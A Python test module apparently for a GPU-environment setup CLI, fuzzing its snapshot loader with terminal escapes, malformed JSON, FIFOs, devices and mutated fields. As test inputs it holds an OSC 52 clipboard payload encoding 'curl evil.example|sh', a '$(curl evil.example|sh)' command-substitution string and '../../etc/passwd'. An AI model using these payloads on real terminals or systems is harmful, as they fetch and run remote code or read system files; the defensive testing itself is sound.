"""Snapshots from strangers: terminal escapes, malformed documents, special files, and mutated real snapshots.

The base documents are the recorded snapshots in ``tests/fixtures/snapshots`` (each names its origin);
the hostile strings are the ones the issue reports (OSC 52 clipboard write, OSC 0 title, CSI clear
screen, U+202E), made up here to stand for what an attacker would put in a file.
"""

from __future__ import annotations

import json
import os
import re
import stat
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.conftest import FIXTURES

SNAPSHOTS = sorted((FIXTURES / "snapshots").glob("*.json"))
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # base64 of "curl evil.example|sh"
TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[H"
BIDI = "\u202e"
HOSTILE = OSC52 + TITLE + CLEAR + BIDI + "\x9b31m\r\x08"
# what may legitimately reach a terminal: printable text, newline and tab (rich writes no colour to a pipe)
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _base(name: str = "h100-r580.json") -> dict:
    return json.loads((FIXTURES / "snapshots" / name).read_text(encoding="utf-8"))


def _write(tmp_path: Path, doc: dict | str, name: str = "snap.json") -> Path:
    p = tmp_path / name
    p.write_text(doc if isinstance(doc, str) else json.dumps(doc), encoding="utf-8")
    return p


def _hostile_h100() -> dict:
    doc = _base()
    doc["nvidia"]["gpus"][0]["name"] = "NVIDIA H100" + HOSTILE
    doc["tooling"]["python"]["executable"] = "/opt/py" + TITLE + "/bin/python3"
    doc["system"]["distro_name"] = "Ubuntu" + CLEAR
    return doc


@pytest.mark.parametrize("args", [
    ("doctor",),
    ("resolve",),
    ("create", "env", "x", "--recipe", "pytorch", "--dry-run", "--offline"),
])
def test_escape_sequences_from_a_snapshot_never_reach_the_terminal(cli, tmp_path, args):
    snap = _write(tmp_path, _hostile_h100())
    r = cli(*args, "--snapshot", str(snap))
    assert r.code in (0, 1), r
    assert "NVIDIA H100" in r.stdout  # the GPU is still shown ...
    assert not _CONTROL.search(r.stdout), r.stdout  # ... with its escapes made visible, not executed
    assert not _CONTROL.search(r.stderr)
    if args[0] == "doctor":
        assert "\\x1b]52;c;" in r.stdout


def test_json_output_keeps_the_exact_string(cli, tmp_path):
    snap = _write(tmp_path, _hostile_h100())
    r = cli("doctor", "--json", "--snapshot", str(snap))
    assert r.code in (0, 1)
    assert not _CONTROL.search(r.stdout)  # JSON carries them as \u001b, \u009b, \u202e ...
    assert r.json()["machine"]["distro"] == "Ubuntu" + CLEAR  # ... and keeps the value exact


def test_an_error_message_quoting_a_snapshot_path_is_sanitised(cli, tmp_path):
    evil = tmp_path / ("a" + TITLE + ".json")
    r = cli("doctor", "--snapshot", str(evil))
    assert r.code == 2
    assert "\x1b" not in r.stderr and "\\x1b]0;pwned" in r.stderr


def test_json_never_holds_nan_or_infinity(capsys):
    from dlsetup import output
    from dlsetup.result import Result

    output.settings.json = True
    output.emit(Result(command="doctor", data={"a": float("nan"), "b": [float("inf"), -float("inf"), 1.5]}))
    doc = json.loads(capsys.readouterr().out, parse_constant=lambda c: pytest.fail(f"invalid JSON constant {c}"))
    assert doc["a"] is None and doc["b"] == [None, None, 1.5]


def test_saved_snapshot_is_valid_json_even_with_a_lone_surrogate(tmp_path):
    from dlsetup.probe.snapshot import snapshot_json
    from dlsetup.util.textsafe import dumps

    text = dumps({"x": "\ud800", "y": float("nan")})
    assert json.loads(text) == {"x": "\ud800", "y": None}
    from dlsetup.probe.model import Snapshot

    snap = Snapshot.from_dict(_base())
    snap.timings_ms = {"system": float("inf")}
    assert json.loads(snapshot_json(snap))["timings_ms"]["system"] is None


# ------------------------------------------------------------------------------------ malformed files

_H100 = json.dumps(_base())
MALFORMED = {
    "int-5000-digits": _H100.replace('"cpu_count": 224', '"cpu_count": ' + "9" * 5000),
    "float-1e400": _H100.replace('"cpu_count": 224', '"cpu_count": 1' + "0" * 400 + ".0"),
    "nan": _H100.replace('"cpu_count": 224', '"cpu_count": NaN'),
    "infinity": _H100.replace('"cpu_count": 224', '"cpu_count": -Infinity'),
    "nesting-100k": _H100[:-1] + ', "x": ' + "[" * 100_000 + "]" * 100_000 + "}",
    "lone-surrogate": _H100.replace('"NVIDIA H100 80GB HBM3"', '"\\ud800"', 1),
    "driver-5000-digits": _H100.replace('"580.65.06"', '"' + "5" * 5000 + '"', 1),
    "not-utf8": None,
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
@pytest.mark.parametrize("command", [("doctor",), ("resolve",), ("create", "env", "x", "--recipe", "pytorch",
                                                                  "--dry-run", "--offline")])
def test_malformed_snapshot_is_a_one_line_error(cli, tmp_path, case, command):
    p = tmp_path / "bad.json"
    if MALFORMED[case] is None:
        p.write_bytes(_H100.encode().replace(b"NVIDIA H100", b"NVIDIA \xff\xfe", 1))
    else:
        p.write_text(MALFORMED[case], encoding="utf-8")
    r = cli(*command, "--snapshot", str(p))
    assert r.code == 2, r
    assert "internal error" not in r.stderr
    assert r.stderr.count("\n") == 1 and r.stderr.startswith("dlsetup: error: ")


def test_version_digits_that_int_refuses_do_not_crash():
    from dlsetup.compat.tables import version_tuple
    from dlsetup.doctor.facts import version_tuple as facts_version_tuple

    assert version_tuple("5" * 5000) == ()
    assert version_tuple("12.\u00b2") == (12,)  # "²" is a digit to str.isdigit but not to int()
    assert facts_version_tuple("12.\u00b2.1") == (12,)


def test_kernel_with_a_plus_sign_plans_an_environment(cli, tmp_path):
    doc = _base()
    doc["system"]["kernel"] = "6.1.0+"  # Raspberry Pi OS / self-built kernels print this in `uname -r`
    r = cli("create", "env", "x", "--recipe", "pytorch", "--dry-run", "--offline", "--snapshot",
            str(_write(tmp_path, doc)))
    assert "internal error" not in r.stderr, r
    assert r.code in (0, 1)
    assert "__linux=6.1.0" in r.stdout


def _run_with_timeout(cli_subprocess, path: str):
    import subprocess

    try:
        return cli_subprocess("doctor", "--snapshot", path, timeout=30)
    except subprocess.TimeoutExpired:
        pytest.fail(f"dlsetup hung reading {path}")


def test_a_fifo_is_refused_without_blocking(cli_subprocess, tmp_path):
    fifo = tmp_path / "snap.json"
    os.mkfifo(fifo)
    r = _run_with_timeout(cli_subprocess, str(fifo))
    assert r.code == 2 and "FIFO" in r.stderr


def test_a_device_is_refused(cli_subprocess):
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero here")
    r = _run_with_timeout(cli_subprocess, "/dev/zero")
    assert r.code == 2 and "device" in r.stderr


def test_a_huge_sparse_file_is_refused_by_its_size(cli, tmp_path):
    p = tmp_path / "sparse.json"
    with open(p, "wb") as fh:
        fh.truncate(500 * 1024 * 1024)  # sparse: costs no disk
    r = cli("doctor", "--snapshot", str(p))
    assert r.code == 2 and "bytes" in r.stderr


def test_a_symlink_to_a_fifo_is_refused(cli, tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    link = tmp_path / "snap.json"
    link.symlink_to(fifo)
    assert stat.S_ISFIFO(os.stat(link).st_mode)
    r = cli("resolve", "--snapshot", str(link))
    assert r.code == 2 and "FIFO" in r.stderr


@pytest.mark.parametrize("path", SNAPSHOTS, ids=[p.stem for p in SNAPSHOTS])
def test_every_recorded_snapshot_still_loads(path):
    from dlsetup.probe.model import Snapshot

    snap = Snapshot.load(path)
    assert snap.system.os


# --------------------------------------------------------------------------- property-based mutation


def _string_paths(value, path=()):
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from _string_paths(v, (*path, k))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _string_paths(v, (*path, i))


_DOCS = {p.name: json.loads(p.read_text(encoding="utf-8")) for p in SNAPSHOTS}
_FIELDS = [(name, path) for name, doc in _DOCS.items() for path in _string_paths(doc)
           if path[-1] not in ("kind",)]

hostile_text = st.one_of(
    st.sampled_from([HOSTILE, OSC52, "6.1.0+", "9" * 5000, "1e400", "\ud800", "", " ", "../../etc/passwd",
                     "$(curl evil.example|sh)", "12.\u00b2", "-1", "NaN", "a\x00b", "GPU-" + "f" * 200]),
    st.text(min_size=0, max_size=60),
    st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x9f), max_size=30),
)


def _set(doc, path, value):
    for k in path[:-1]:
        doc = doc[k]
    doc[path[-1]] = value


@settings(max_examples=int(os.environ.get("DLSETUP_HYPOTHESIS_EXAMPLES", "150")), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(field=st.sampled_from(_FIELDS), value=hostile_text, as_json=st.booleans(),
       command=st.sampled_from(["doctor", "resolve"]))
# Found by this test after the merges: str.isdigit() accepts "²", int() does not (a Python version "12.²").
@example(field=("nodriver-k80-debian12.json", ("tooling", "python", "version")), value="12.²", as_json=False,
         command="resolve")
def test_mutating_any_string_field_never_crashes_or_leaks_controls(cli, tmp_path, field, value, as_json, command):
    name, path = field
    doc = json.loads(json.dumps(_DOCS[name]))
    _set(doc, path, value)
    p = tmp_path / "m.json"
    p.write_text(json.dumps(doc, ensure_ascii=True), encoding="utf-8")
    args = [command, "--snapshot", str(p)] + (["--json"] if as_json else [])
    r = cli(*args)
    assert r.code in (0, 1, 2), r
    assert "internal error" not in r.stderr and "Traceback" not in r.stderr, r
    assert not _CONTROL.search(r.stderr)
    if as_json:
        json.loads(r.stdout, parse_constant=lambda c: pytest.fail(f"invalid JSON constant {c}"))
    else:
        assert not _CONTROL.search(r.stdout), r.stdout
